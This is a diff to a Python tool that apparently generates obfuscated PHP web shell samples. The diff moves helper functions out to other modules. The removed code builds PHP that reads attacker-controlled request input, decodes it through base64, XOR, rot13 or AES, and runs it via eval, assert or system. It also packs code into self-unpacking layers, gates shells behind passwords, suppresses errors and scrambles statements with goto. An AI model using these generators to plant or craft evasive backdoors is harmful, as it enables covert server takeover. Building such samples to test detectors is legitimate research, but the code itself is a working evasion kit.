@@ -7,15 +7,15 @@ gives combinations nobody has looked at. No sample of anybody else's is copied.
     python tools/webshell_mutations.py FOLDER [SEED] [COUNT]
 """
 
-import base64
 import random
 import sys
-import zlib
 from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
 
 from webshell_mutations_other import OTHER
+from webshell_spelling import Draw, encoded_source, source, spelled, word
+from webshell_wrapping import commented, gated, jumping, packed
 
 
 @dataclass(frozen=True, slots=True)
@@ -31,136 +31,6 @@ class Sample:
     content: bytes
 
 
-Draw = random.Random
-
-
-def word(draw: Draw, size: int = 0) -> str:
-    """A name for a variable or a parameter."""
-    letters = draw.choice(("abcdefghijklmnop", "I1lO0_", "abcxyz_0189"))
-    size = size or draw.randint(1, 9)
-    return draw.choice("abcdefgxyz_") + "".join(draw.choice(letters) for _ in range(size))
-
-
-def source(draw: Draw) -> str:
-    """An expression whose value the visitor decides."""
-    key = word(draw)
-    quoted = draw.choice((f"'{key}'", f'"{key}"', f"'{key[0]}'.'{key[1:]}'"))
-    array = draw.choice(("_POST", "_GET", "_REQUEST", "_COOKIE"))
-    header = "HTTP_X_" + key.upper()
-    split = draw.randint(1, len(array) - 1)
-    return draw.choice(
-        (
-            f"${array}[{quoted}]",
-            f"${array}[{quoted}]",
-            f"$_SERVER['{header}']",
-            "file_get_contents('php://input')",
-            f"file_get_contents({spelled(draw, 'php://input')})",
-            f"getallheaders()[{quoted}]",
-            f"filter_input(INPUT_POST, {quoted})",
-            f"${{'{array[:split]}'.'{array[split:]}'}}[{quoted}]",
-            f"$GLOBALS['{array}'][{quoted}]",
-            f"$GLOBALS[{spelled(draw, array)}][{quoted}]",
-            f"current(${array})",
-            f"end(${array})",
-            f"array_values(${array})[0]",
-            f"array_pop(${array})",
-            f"implode('', ${array})",
-            f"trim(@${array}[{quoted}])",
-            f"(isset(${array}[{quoted}]) ? ${array}[{quoted}] : '')",
-            f"(${array}[{quoted}] ?? ${array}['z'])",
-            f"key(${array})",
-            f"$_SERVER[{spelled(draw, 'QUERY_STRING')}]",
-        )
-    )
-
-
-def encoded_source(draw: Draw) -> tuple[str, str]:
-    """Statements before, and the visitor's word once it is decoded."""
-    value = source(draw)
-    name = "$" + word(draw)
-    return draw.choice(
-        (
-            ("", value),
-            ("", value),
-            ("", f"base64_decode({value})"),
-            ("", f"strrev({value})"),
-            ("", f"str_rot13({value})"),
-            ("", f"hex2bin({value})"),
-            ("", f"gzinflate(base64_decode({value}))"),
-            ("", f"pack('H*', {value})"),
-            ("", f"urldecode({value})"),
-            ("", f"json_decode({value}, true)['c']"),
-            ("", f"stripslashes({value})"),
-            ("", f"openssl_decrypt({value}, 'AES-128-ECB', 'k3y', OPENSSL_RAW_DATA)"),
-            (f"{name}={value};", name),
-            (f"{name}=array(); {name}[]={value};", f"{name}[0]"),
-            (f"foreach(array({value}) as {name}_v) {name}={name}_v;", name),
-            (
-                f"{name}={value}; for($i=0;$i<strlen({name});$i++)"
-                f" {name}[$i]={name}[$i]^'secret'[$i%6];",
-                name,
-            ),
-            (f"list({name})=explode('|',{value});", name),
-            (f"{name}=''; foreach(str_split({value},2) as $p) {name}.=chr(hexdec($p));", name),
-        )
-    )
-
-
-def _chars(text: str) -> str:
-    return ".".join(f"chr({ord(each)})" for each in text)
-
-
-def _xored(draw: Draw, text: str) -> str:
-    key = "".join(draw.choice("ABCDEFGHJKLMNPQ") for _ in text)
-    mixed = "".join(f"\\x{ord(a) ^ ord(b):02x}" for a, b in zip(text, key, strict=True))
-    return f'("{mixed}"^"{key}")'
-
-
-def _picked(draw: Draw, text: str) -> str:
-    table = sorted(set(text)) + list("qwzk")
-    draw.shuffle(table)
-    name = "$" + word(draw, 3)
-    picks = ".".join(f"{name}[{table.index(each)}]" for each in text)
-    return f"(({name}='{''.join(table)}')?{picks}:'')"
-
-
-def spelled(draw: Draw, text: str) -> str:
-    """An expression whose value is the text, not written out."""
-    cut = draw.randint(1, len(text) - 1)
-    glue = draw.choice(("_q", "Zz", "#"))
-    return draw.choice(
-        (
-            f"'{text[:cut]}'.'{text[cut:]}'",
-            f"strrev('{text[::-1]}')",
-            f"str_rot13('{text.translate(_ROT)}')",
-            f"base64_decode('{base64.b64encode(text.encode()).decode()}')",
-            '"' + "".join(f"\\x{ord(each):02x}" for each in text) + '"',
-            '"' + "".join(f"\\{ord(each):o}" for each in text) + '"',
-            _chars(text),
-            f"implode('', array({','.join(repr(each) for each in text)}))",
-            f"join(['{text[:cut]}','{text[cut:]}'])",
-            _xored(draw, text),
-            _picked(draw, text),
-            f"str_replace('{glue}','','{glue.join(text)}')",
-            f"hex2bin('{text.encode().hex()}')",
-            f"pack('H*','{text.encode().hex()}')",
-            f"sprintf('%s%s','{text[:cut]}','{text[cut:]}')",
-            f"urldecode('{''.join(f'%{ord(each):02x}' for each in text)}')",
-            f"substr('zz{text}yy',2,{len(text)})",
-            f"(function(){{return '{text[:cut]}'.'{text[cut:]}';}})()",
-            f"implode(array_map('chr',[{','.join(str(ord(each)) for each in text)}]))",
-            f"ucfirst('{text[0].swapcase() + text[1:]}')" if text[0].isalpha() else _chars(text),
-            f"strtr('{text.translate(_SHIFT)}','{_TO}','{_FROM}')",
-        )
-    )
-
-
-_FROM = "abcdefghijklmnopqrstuvwxyz"
-_TO = "zyxwvutsrqponmlkjihgfedcba"
-_SHIFT = str.maketrans(_FROM, _TO)
-_ROT = str.maketrans(
-    _FROM + _FROM.upper(), _FROM[13:] + _FROM[:13] + (_FROM[13:] + _FROM[:13]).upper()
-)
 _COMMANDS = ("system", "exec", "shell_exec", "passthru", "popen", "proc_open")
 _TAKING_ONE = ("system", "exec", "shell_exec", "passthru", "assert")
 
@@ -377,105 +247,6 @@ PLAIN: dict[str, Callable[[Draw], str]] = {
     "writing": writing,
     "bare_symbols": bare_symbols,
 }
-
-
-def packed(draw: Draw, code: str, layers: int) -> str:
-    """The code as a blob that unpacks and runs itself."""
-    for _ in range(layers):
-        raw = code.encode("latin-1", "replace")
-        squeezed = base64.b64encode(_deflate(raw)).decode()
-        plain = base64.b64encode(raw).decode()
-        rotated = base64.b64encode(code.translate(_ROT).encode()).decode()
-        key = draw.randint(1, 255)
-        numbers = ",".join(str(byte ^ key) for byte in raw)
-        name = "$" + word(draw, 4)
-        run = draw.choice(("eval(%s);", "@eval(%s);", "assert(%s);", "eval('?><?php '.%s);"))
-        decoder = draw.choice(
-            (
-                ("", f"base64_decode('{plain}')"),
-                ("", f"gzinflate(base64_decode('{squeezed}'))"),
-                ("", f"str_rot13(base64_decode('{rotated}'))"),
-                ("", f"({spelled(draw, 'base64_decode')})('{plain}')"),
-                (f"{name}={spelled(draw, 'base64_decode')};", f"{name}('{plain}')"),
-                (f"{name}='';foreach([{numbers}] as $b){name}.=chr($b^{key});", name),
-                (f"{name}='{plain[::-1]}';", f"base64_decode(strrev({name}))"),
-                ("", f"hex2bin('{raw.hex()}')"),
-                (f"{name}=<<<'EOT'\n{plain}\nEOT;\n", f"base64_decode({name})"),
-                (
-                    f"function d{name[1:]}($s){{return gzinflate(base64_decode($s));}}",
-                    f"d{name[1:]}('{squeezed}')",
-                ),
-            )
-        )
-        code = decoder[0] + run % decoder[1]
-    return code
-
-
-def _deflate(raw: bytes) -> bytes:
-    return zlib.compress(raw)[2:-4]
-
-
-def gated(draw: Draw, code: str) -> str:
-    """Only for who knows the word."""
-    return draw.choice(
-        (
-            f"if(md5($_POST['p'])=='{draw.randbytes(16).hex()}'){{{code}}}",
-            f"if(isset($_GET['{word(draw)}'])){{ {code} }}",
-            f"if($_SERVER['HTTP_USER_AGENT']!=='{word(draw)}') exit; {code}",
-            f"session_start(); if(!isset($_SESSION['a'])){{$_SESSION['a']=1;}} else {{ {code} }}",
-            f"try{{ {code} }}catch(Throwable $e){{}}",
-            f"switch(1){{case 1: {code} break;}}",
-            f"do{{ {code} }}while(0);",
-            f"error_reporting(0);@set_time_limit(0);ini_set('display_errors',0);{code}",
-        )
-    )
-
-
-def jumping(draw: Draw, code: str) -> str:
-    """Statements out of order, joined by goto."""
-    parts = _statements(code)
-    labels = [f"L{draw.randint(1000, 9999)}{index}" for index in range(len(parts) + 1)]
-    blocks = [
-        f"{labels[index]}: {part} goto {labels[index + 1]};" for index, part in enumerate(parts)
-    ]
-    draw.shuffle(blocks)
-    return f"goto {labels[0]}; {' '.join(blocks)} {labels[-1]}: ;"
-
-
-def _statements(code: str) -> list[str]:
-    """Cut at semicolons outside quotes and brackets."""
-    parts, depth, quote, start = [], 0, "", 0
-    for position, sign in enumerate(code):
-        if quote:
-            if sign == quote and code[position - 1] != "\\":
-                quote = ""
-        elif sign in "'\"`":
-            quote = sign
-        else:
-            depth += (sign in "([{") - (sign in ")]}")
-            if (
-                sign == ";" or (sign == "}" and code[position + 1 : position + 2] == " ")
-            ) and not depth:
-                parts.append(code[start : position + 1])
-                start = position + 1
-    return [*parts, code[start:]] if code[start:].strip() else parts
-
-
-def commented(draw: Draw, code: str) -> str:
-    """Comments between a name and its bracket."""
-    out, quote = [], ""
-    for position, sign in enumerate(code):
-        if quote:
-            if sign == quote and code[position - 1] != "\\":
-                quote = ""
-        elif sign in "'\"`":
-            quote = sign
-        if sign == "(" and not quote and draw.random() < 0.7:
-            out.append(
-                draw.choice(("/**/", "/*" + word(draw) + "*/", " ", "\n", "//" + word(draw) + "\n"))
-            )
-        out.append(sign)
-    return "".join(out)
 
 
 _FILLER = """
